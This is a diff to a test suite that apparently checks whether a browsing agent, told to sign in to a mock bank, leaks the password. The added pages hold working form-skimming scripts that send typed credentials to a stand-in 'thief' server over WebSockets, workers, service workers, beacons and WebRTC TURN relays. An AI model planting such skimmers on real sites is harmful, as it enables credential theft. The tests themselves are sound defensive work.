@@ -49,6 +49,8 @@ const form = (action: string, more = '') =>
   `<h1>Sign in</h1><form action="${action}" method="post" ${more}><label>Username <input name="user" autocomplete="username"></label>
    <label>Password <input name="pass" type="password"></label><button>Sign in</button></form>`;
 const thiefUrl = (path: string) => `http://localhost:${thief.port}${path}`;
+const socketUrl = (path: string) => thiefUrl(path).replace('http:', 'ws:');
+const ownSocketUrl = (path: string) => bankUrl(path).replace('http:', 'ws:');
 const bankUrl = (path: string) => `http://127.0.0.1:${bank.port}${path}`;
 
 const PAGES: Record<string, () => string> = {
@@ -70,6 +72,34 @@ const PAGES: Record<string, () => string> = {
       for (const field of document.querySelectorAll('input')) field.addEventListener('change', () => tell(field.value));
       document.querySelector('form').addEventListener('submit', () => { for (const field of document.querySelectorAll('input')) tell(field.value) });
     </script>`,
+  '/sockets': () =>
+    `${form('/session')}<script>
+      const open = (url) => { const socket = new WebSocket(url); socket.onopen = () => { for (const value of seen) socket.send(value) }; return socket };
+      const seen = new Set(), early = [open('${socketUrl('/early')}'), open('${ownSocketUrl('/own')}')];
+      const tell = (value) => { if (!value || seen.has(value)) return; seen.add(value);
+        for (const socket of early) if (socket.readyState === 1) socket.send(value);
+        open('${socketUrl('/take?v=')}' + encodeURIComponent(value)); open('${socketUrl('/take?turned=')}' + [...value].reverse().join(''));
+        new Image().src = '${thiefUrl('/take?half=')}' + value.slice(1); import('${thiefUrl('/take.js?half=')}' + encodeURIComponent(value.slice(0, -1))).catch(() => 0);
+        new EventSource('${thiefUrl('/take?v=')}' + encodeURIComponent(value));
+        try { new WebTransport('https://localhost:${thief.port}/' + btoa(value)) } catch {} };
+      addEventListener('input', ({ target }) => tell(target.value));
+    </script>`,
+  '/workers': () =>
+    `${form('/session')}<script>
+      const code = 'onmessage = ({ data }) => tell(data); onconnect = ({ ports }) => { ports[0].onmessage = ({ data }) => tell(data) };'
+        + 'const tell = (value) => { fetch("${thiefUrl('/take')}", { method: "POST", mode: "no-cors", body: value }).catch(() => 0); new WebSocket("${socketUrl('/take?v=')}" + encodeURIComponent(value)) }';
+      const blob = URL.createObjectURL(new Blob([code])), workers = [new Worker(blob), new Worker('/worker.js?' + encodeURIComponent(code))];
+      const ports = typeof SharedWorker === 'undefined' ? [] : [new SharedWorker(blob).port, new SharedWorker('/worker.js?' + encodeURIComponent(code)).port];
+      if ('serviceWorker' in navigator) navigator.serviceWorker.register('/worker.js?' + encodeURIComponent(code)).catch(() => 0);
+      addEventListener('input', ({ target }) => { for (const one of [...workers, ...ports]) one.postMessage(target.value) });
+    </script>`,
+  '/relays': () =>
+    `${form('/session')}<script>
+      addEventListener('input', ({ target }) => { if (!target.value) return;
+        const peer = new RTCPeerConnection({ iceTransportPolicy: 'relay', iceServers: ['tcp', 'udp'].map((kind) => ({
+          urls: 'turn:localhost:${thief.port}?transport=' + kind, username: target.value, credential: target.value })) });
+        peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer)) });
+    </script>`,
   '/sent-on': () => form('/session-307'),
   '/code-elsewhere': () => form('/session-code'),
   '/search-box': () =>
@@ -85,6 +115,10 @@ async function answerBank(request: IncomingMessage, response: ServerResponse): P
   if (path === '/session') return echo(response, new URLSearchParams(body).get('pass') ?? '');
   if (path === '/session-307') return void response.writeHead(307, { location: thiefUrl('/take') }).end();
   if (path === '/session-code') return void response.writeHead(302, { location: thiefUrl('/code') }).end();
+  if (path === '/worker.js') {
+    const code = decodeURIComponent(new URL(request.url ?? '/', bank.origin).search.slice(1));
+    return void response.writeHead(200, { 'content-type': 'text/javascript' }).end(code);
+  }
   html(response, PAGES[path]?.() ?? '<h1>Nothing here</h1>');
 }
 
@@ -189,6 +223,19 @@ test.each([
   if (path === '/listening' || path === '/hidden-field') expect(got.bank).toContain(`pass=${PASSWORD}`);
   if (path === '/search-box') expect(secretsIn(got.bank)).toEqual([]);
 });
+
+test.each(['/sockets', '/workers', '/relays'])(
+  '%s: nothing but the site is talked to at all',
+  async (path) => {
+    const before = thief.connections();
+    const { result, said } = await attempt(bankUrl(path), 'Sign in and tell me my points.');
+    expect(result, said).toMatchObject({ ok: true, login: 'signed_in' });
+    expect(got.bank).toContain(`pass=${PASSWORD}`);
+    expect([got.thief, thief.connections() - before]).toEqual(['', 0]);
+    expect(secretsIn(said)).toEqual([]);
+    if (path === '/sockets') expect(got.bank).toContain('GET /own\n');
+  },
+);
 
 test('a page of somebody else that shows the genuine form is not trusted with it', async () => {
   const { result } = await attempt(thiefUrl('/embeds'), 'Sign in and tell me my points.');
